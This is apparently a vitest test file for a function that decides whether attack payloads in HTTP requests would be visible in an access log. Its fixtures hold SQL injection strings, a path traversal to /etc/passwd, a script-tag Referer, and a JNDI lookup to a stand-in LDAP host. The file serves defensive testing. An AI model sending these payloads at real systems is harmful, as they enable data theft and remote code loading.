import { describe, expect, it } from 'vitest';

import { accessLogVisibility } from './visibility.js';

const stock = { Host: 'localhost', 'User-Agent': 'OWASP CRS test agent', Accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8' };

describe('accessLogVisibility', () => {
  it('counts a payload in the query string as visible', () => {
    expect(accessLogVisibility({ method: 'GET', uri: '/get?id=1%27+or+1=1', headers: stock })).toEqual({ payloadIn: ['uri'], logVisible: true });
  });

  it('counts path traversal in the path as visible', () => {
    expect(accessLogVisibility({ uri: '/static/../../etc/passwd', headers: stock })).toEqual({ payloadIn: ['uri'], logVisible: true });
  });

  it('counts the User-Agent and Referer as visible', () => {
    const headers = { ...stock, 'User-Agent': 'Nikto/2.5.0', Referer: 'http://evil.example/?<script>' };
    expect(accessLogVisibility({ uri: '/', headers })).toEqual({ payloadIn: ['user_agent', 'referer'], logVisible: true });
  });

  it('does not count a body, a raw request or an unusual header', () => {
    expect(accessLogVisibility({ method: 'POST', uri: '/post', data: "var=1' or 1=1", headers: { ...stock, 'Content-Type': 'application/x-www-form-urlencoded' } })).toEqual({ payloadIn: ['body'], logVisible: false });
    expect(accessLogVisibility({ encoded_request: 'R0VUIC8=' }).logVisible).toBe(false);
    expect(accessLogVisibility({ uri: '/', headers: { ...stock, Cookie: 'id=1 union select 1' } })).toEqual({ payloadIn: ['other_headers'], logVisible: false });
  });

  it('does not count a stock header whose value carries code', () => {
    expect(accessLogVisibility({ uri: '/', headers: { ...stock, Accept: '${jndi:ldap://x.example/a}' } }).logVisible).toBe(false);
  });

  it('treats a plain request as visible with nothing unusual in it', () => {
    expect(accessLogVisibility({ uri: '/index.html', headers: stock })).toEqual({ payloadIn: [], logVisible: true });
  });
});
